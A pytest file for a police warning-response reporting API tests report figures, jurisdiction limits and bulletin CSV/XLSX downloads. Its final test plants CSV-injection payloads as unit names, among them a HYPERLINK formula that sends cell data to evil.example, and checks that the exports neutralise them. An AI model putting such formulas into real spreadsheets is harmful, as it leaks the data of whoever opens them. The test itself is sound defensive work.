"""Supervisors read completion and the bulletin; every figure is counted by hand from the
day in tests/support/day.py, and nobody reads outside their jurisdiction."""

from __future__ import annotations

import csv
import io
from typing import Any

import msgspec
import openpyxl
import pytest

from server.store.records import Actor
from tests.support.api import as_user, assert_problem
from tests.support.day import run_day

pytestmark = pytest.mark.anyio
REPORT = "/api/v1/reports/completion"
BULLETIN = "/api/v1/reports/bulletin"
ZERO_OUTCOMES = dict.fromkeys(
    ("dissuaded", "already_lost", "not_reachable", "refused", "false_alarm"), 0
)


def figures(**given: Any) -> dict[str, Any]:
    """A WarningFigures as JSON: zeros and nulls except what is given."""
    base: dict[str, Any] = {
        "received": 0,
        "cancelled": 0,
        "assigned": 0,
        "visited": 0,
        "face_to_face": 0,
        "face_to_face_rate": None,
        "on_time": 0,
        "on_time_rate": None,
        "late": 0,
        "overdue": 0,
        "closed": 0,
        "contact_minutes_median": None,
        "contact_minutes_p90": None,
        "outcomes": dict(ZERO_OUTCOMES),
        "amount_prevented": 0,
    }
    outcomes = given.pop("outcomes", {})
    base.update(given)
    base["outcomes"].update(outcomes)
    return base


def publicity(**given: int) -> dict[str, int]:
    return {"tasks": 0, "done": 0, "overdue": 0, "attendance": 0, "materials": 0, **given}


CITY_DAY = figures(
    received=7,
    cancelled=1,
    assigned=6,
    visited=5,
    face_to_face=4,
    face_to_face_rate=0.6667,
    on_time=4,
    on_time_rate=0.6667,
    late=1,
    overdue=1,
    closed=5,
    contact_minutes_median=20.0,  # [5, 10, 20, 50, 60]: rank 3
    contact_minutes_p90=60.0,  # rank ceil(4.5) = 5
    outcomes={"dissuaded": 2, "already_lost": 1, "refused": 1, "false_alarm": 1},
    amount_prevented=105_000,
)
CHUANHUI = figures(
    received=6,
    cancelled=1,
    assigned=5,
    visited=4,
    face_to_face=3,
    face_to_face_rate=0.6,
    on_time=3,
    on_time_rate=0.6,
    late=1,
    overdue=1,
    closed=4,
    contact_minutes_median=20.0,  # [10, 20, 50, 60]: rank 2
    contact_minutes_p90=60.0,  # rank ceil(3.6) = 4
    outcomes={"dissuaded": 2, "already_lost": 1, "refused": 1},
    amount_prevented=105_000,
)
FUGOU = figures(
    received=1,
    assigned=1,
    visited=1,
    face_to_face=1,
    face_to_face_rate=1.0,
    on_time=1,
    on_time_rate=1.0,
    closed=1,
    contact_minutes_median=5.0,
    contact_minutes_p90=5.0,
    outcomes={"false_alarm": 1},
)
P1 = publicity(tasks=1, done=1, attendance=45, materials=105)


async def test_the_city_report_of_a_day_reconciles_with_every_record(
    client, store, clock, city
) -> None:
    await run_day(client, store, clock, city)
    admin = await as_user(client, "admin")
    response = await client.get(
        REPORT, headers=admin, params={"date_from": "2026-11-25", "date_to": "2026-11-25"}
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["unit_id"] == "411600"
    assert report["total"]["warnings"] == CITY_DAY
    assert report["total"]["publicity"] == P1
    by_unit = {r["key"]: r for r in report["by_unit"]}
    assert set(by_unit) == {"411602", "411621"}
    assert by_unit["411602"]["name"] == "川汇分局"
    assert by_unit["411602"]["warnings"] == CHUANHUI
    assert by_unit["411602"]["publicity"] == P1
    assert by_unit["411621"]["warnings"] == FUGOU
    by_officer = {r["name"]: r["warnings"] for r in report["by_officer"]}
    assert by_officer["张警官"] == figures(
        received=2,
        assigned=2,
        visited=2,
        face_to_face=1,
        face_to_face_rate=0.5,
        on_time=1,
        on_time_rate=0.5,
        late=1,
        closed=2,
        contact_minutes_median=10.0,
        contact_minutes_p90=50.0,
        outcomes={"dissuaded": 1, "refused": 1},
        amount_prevented=100_000,
    )
    assert by_officer["李警官"] == figures(
        received=2,
        assigned=2,
        visited=1,
        face_to_face=1,
        face_to_face_rate=0.5,
        on_time=1,
        on_time_rate=0.5,
        overdue=1,
        closed=1,
        contact_minutes_median=60.0,
        contact_minutes_p90=60.0,
        outcomes={"already_lost": 1},
    )
    assert by_officer["(未分派)"] == figures(received=1, cancelled=1)
    assert by_officer["赵警官"] == FUGOU
    # Every breakdown adds up to the total.
    for breakdown in ("by_unit", "by_officer"):
        for name in ("received", "visited", "face_to_face", "on_time", "amount_prevented"):
            assert sum(r["warnings"][name] for r in report[breakdown]) == CITY_DAY[name]
    officer_publicity = {r["name"]: r["publicity"] for r in report["by_officer"]}
    assert officer_publicity["张警官"] == P1


async def test_a_range_takes_in_the_day_before_and_its_overdue_publicity(
    client, store, clock, city
) -> None:
    await run_day(client, store, clock, city)
    county1 = await as_user(client, "county1")
    report = (
        await client.get(
            REPORT,
            headers=county1,
            params={"date_from": "2026-11-24", "date_to": "2026-11-25", "unit_id": "411602"},
        )
    ).json()
    # W0 arrived at local 23:00 on the 24th and was never visited: overdue since.
    assert report["total"]["warnings"]["received"] == CHUANHUI["received"] + 1
    assert report["total"]["warnings"]["overdue"] == 2
    assert report["total"]["publicity"] == publicity(
        tasks=2, done=1, overdue=1, attendance=45, materials=105
    )
    stations = {r["key"]: r for r in report["by_unit"]}
    assert stations["411602-02"]["publicity"] == publicity(tasks=1, overdue=1)


async def test_nobody_reads_outside_their_jurisdiction(client, store, clock, city) -> None:
    await run_day(client, store, clock, city)
    params = {"date_from": "2026-11-25", "date_to": "2026-11-25"}
    county2 = await as_user(client, "county2")
    assert_problem(
        await client.get(REPORT, headers=county2, params={**params, "unit_id": "411602"}),
        404,
        "not_found",
    )
    sup2 = await as_user(client, "sup2")
    assert_problem(
        await client.get(REPORT, headers=sup2, params={**params, "unit_id": "411602-01"}),
        404,
        "not_found",
    )
    own = (await client.get(REPORT, headers=sup2, params=params)).json()
    assert own["unit_id"] == "411602-02"
    assert own["by_unit"] == []
    assert [r["name"] for r in own["by_officer"]] == ["王警官"]
    assert_problem(
        await client.get(REPORT, headers=await as_user(client, "o1"), params=params),
        403,
        "forbidden",
    )
    assert_problem(
        await client.get(
            REPORT, headers=county2, params={"date_from": "2026-11-25", "date_to": "2026-11-24"}
        ),
        400,
        "validation_failed",
        "date_to",
    )
    bad_date = await client.get(
        REPORT, headers=county2, params={"date_from": "2026-13-01", "date_to": "2026-11-25"}
    )
    assert bad_date.status_code == 400
    assert_problem(
        await client.get(REPORT, headers=county2, params={"date_from": "2026-11-25"}),
        400,
        "validation_failed",
        "date_to",
    )


async def test_the_daily_bulletin_ranks_units_names_the_lagging_and_downloads(
    client, store, clock, city
) -> None:
    await run_day(client, store, clock, city)
    admin = await as_user(client, "admin")
    bulletin = (await client.get(BULLETIN, headers=admin, params={"day": "2026-11-25"})).json()
    assert [(r["unit_id"], r["rank"], r["lagging"]) for r in bulletin["counties"]] == [
        ("411621", 1, False),
        ("411602", 2, True),  # on time 3 of 5
    ]
    assert [(r["unit_id"], r["rank"], r["lagging"]) for r in bulletin["stations"]] == [
        ("411602-02", 1, False),
        ("411621-01", 2, False),
        ("411602-01", 3, True),  # on time 2 of 4 (W1, W3; W2 late, W4 overdue)
    ]
    assert bulletin["lagging_units"] == ["川汇分局", "城区派出所"]
    assert bulletin["total"]["warnings"] == CITY_DAY
    assert bulletin["counties"][1]["warnings"] == CHUANHUI

    response = await client.get(f"{BULLETIN}/csv", headers=admin, params={"day": "2026-11-25"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    title, header, *rows = list(csv.reader(io.StringIO(response.content[3:].decode("utf-8"))))
    assert title == ["周口市公安局日通报 2026-11-25至2026-11-25"]
    assert header[:4] == ["级别", "排名", "单位编码", "单位"]
    assert len(rows) == 2 + 3 + 1
    chuanhui = next(r for r in rows if r[2] == "411602")
    record = dict(zip(header, chuanhui, strict=True))
    assert record["应访数"] == "5"
    assert record["按时率"] == "0.6"
    assert record["挽损金额(元)"] == "105000"
    assert record["落后单位"] == "是"
    totals = dict(zip(header, rows[-1], strict=True))
    assert totals["级别"] == "合计"
    assert totals["预警数"] == str(CITY_DAY["received"])
    assert totals["挽损金额(元)"] == str(CITY_DAY["amount_prevented"])

    response = await client.get(f"{BULLETIN}/xlsx", headers=admin, params={"day": "2026-11-25"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["通报"]
    # Handed up as it is: titled, a header that stays on screen and on every printed
    # page, the unit's totals last, landscape A4 one page wide, columns that fit.
    assert sheet["A1"].value == "周口市公安局日通报 2026-11-25至2026-11-25"
    assert sheet.freeze_panes == "E3"
    assert sheet.print_title_rows == "$1:$2"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # One page wide (fitToWidth is left out when it is 1, the format's default), any tall.
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    cells = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    assert cells[0] == header
    assert cells[-1][:4] == ["合计", None, "411600", "周口市公安局"]
    assert cells[-1][header.index("预警数")] == CITY_DAY["received"]
    unit_width = sheet.column_dimensions["D"].width
    assert unit_width >= 2 * max(len(str(r[3])) for r in cells[1:])


async def test_weekly_and_monthly_bulletins_cover_their_period(client, store, clock, city) -> None:
    await run_day(client, store, clock, city)
    county1 = await as_user(client, "county1")
    week = (
        await client.get(BULLETIN, headers=county1, params={"day": "2026-11-25", "period": "week"})
    ).json()
    assert (week["date_from"], week["date_to"]) == ("2026-11-23", "2026-11-29")
    assert week["counties"] == []  # a county's bulletin ranks its stations
    assert week["total"]["warnings"]["received"] == 7  # W0 to W6
    month = (
        await client.get(BULLETIN, headers=county1, params={"day": "2026-11-03", "period": "month"})
    ).json()
    assert (month["date_from"], month["date_to"]) == ("2026-11-01", "2026-11-30")
    assert month["total"]["warnings"]["received"] == 7
    assert_problem(
        await client.get(BULLETIN, headers=county1, params={"day": "2026-11-25", "period": "year"}),
        400,
        "validation_failed",
    )


async def test_the_ranking_without_officers_has_the_same_figures(
    client, store, clock, city
) -> None:
    """by_officer=false (the console's ranking of sub-units, the store's fast path)
    leaves every other figure as the full report has it."""
    await run_day(client, store, clock, city)
    asked = [
        ("admin", {"date_from": "2026-11-25", "date_to": "2026-11-25"}),
        ("admin", {"date_from": "2026-11-24", "date_to": "2026-11-26"}),
        ("county1", {"date_from": "2026-11-24", "date_to": "2026-11-25"}),
        ("sup2", {"date_from": "2026-11-25", "date_to": "2026-11-25"}),
    ]
    for login, params in asked:
        headers = await as_user(client, login)
        full = (await client.get(REPORT, headers=headers, params=params)).json()
        response = await client.get(
            REPORT, headers=headers, params={**params, "by_officer": "false"}
        )
        assert response.status_code == 200, response.text
        ranking = response.json()
        assert ranking["by_officer"] == []
        assert full["by_officer"]
        assert {**ranking, "by_officer": None} == {**full, "by_officer": None}, login
    city_day = (
        await client.get(
            REPORT,
            headers=await as_user(client, "admin"),
            params={"date_from": "2026-11-25", "date_to": "2026-11-25", "by_officer": "false"},
        )
    ).json()
    assert city_day["total"]["warnings"] == CITY_DAY
    by_unit = {r["key"]: r["warnings"] for r in city_day["by_unit"]}
    assert by_unit == {"411602": CHUANHUI, "411621": FUGOU}
    assert_problem(
        await client.get(
            REPORT,
            headers=await as_user(client, "county2"),
            params={
                "date_from": "2026-11-25",
                "date_to": "2026-11-25",
                "unit_id": "411602",
                "by_officer": "false",
            },
        ),
        404,
        "not_found",
    )


async def test_a_unit_named_like_a_formula_stays_text_in_both_downloads(
    client, store, clock, city
) -> None:
    # A unit named `=HYPERLINK(...)` went out as it was: Excel and WPS ran it as a
    # formula in the sheet a supervisor opened (CSV injection). OWASP's rule quotes it.
    await run_day(client, store, clock, city)
    link = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    renamed = {
        "411600": "@SUM(1+1)",  # the city: its name starts the title
        "411602": link,
        "411602-01": "-2+3",
        "411602-02": "+陈州派出所",
        "411621": "\t扶沟县公安局",
        "411621-01": "\r城关派出所",
    }
    store.upsert_units(
        [
            msgspec.structs.replace(store.get_unit(code), name=name)
            for code, name in renamed.items()
        ],
        Actor.system(),
    )
    admin = await as_user(client, "admin")
    day = {"day": "2026-11-25"}

    response = await client.get(f"{BULLETIN}/csv", headers=admin, params=day)
    title, header, *rows = list(csv.reader(io.StringIO(response.content[3:].decode("utf-8"))))
    assert title == ["'@SUM(1+1)日通报 2026-11-25至2026-11-25"]
    names = {r[header.index("单位编码")]: r[header.index("单位")] for r in rows}
    assert names == {code: "'" + name for code, name in renamed.items()}
    chuanhui = dict(zip(header, next(r for r in rows if r[2] == "411602"), strict=True))
    assert chuanhui["挽损金额(元)"] == "105000"  # numbers are left as they are

    response = await client.get(f"{BULLETIN}/xlsx", headers=admin, params=day)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book["通报"]
    assert sheet["A1"].value == "'@SUM(1+1)日通报 2026-11-25至2026-11-25"
    cells = list(sheet.iter_rows(min_row=3))
    # XLSX stores a carriage return as _x000D_, which openpyxl hands back as it is.
    quoted = {c: "'" + n.replace("\r", "_x000D_") for c, n in renamed.items()}
    assert {r[2].value: r[3].value for r in cells} == quoted
    assert all(r[3].data_type == "s" for r in cells)  # text, never a formula
    row = next(r for r in cells if r[2].value == "411602")
    amount = row[header.index("挽损金额(元)")]
    assert (amount.value, amount.data_type) == (105_000, "n")
    lagging = [c.value for (c,) in book["落后单位"].iter_rows(min_row=2)]
    assert lagging == ["'" + link, "'-2+3"]
